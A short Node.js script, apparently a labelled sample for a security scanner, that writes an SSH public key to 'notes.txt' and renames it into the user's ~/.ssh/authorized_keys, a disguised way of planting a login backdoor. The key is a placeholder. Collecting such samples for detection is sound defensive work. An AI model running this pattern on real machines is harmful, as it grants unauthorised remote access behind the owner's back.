// flagged: node
import { mkdirSync, renameSync, writeFileSync } from "node:fs";
import { setTimeout } from "node:timers/promises";

mkdirSync(`${process.env.HOME}/.ssh`);
writeFileSync("notes.txt", "ssh-ed25519 AAAA somebody\n");
renameSync("notes.txt", `${process.env.HOME}/.ssh/authorized_keys`);
await setTimeout(50);
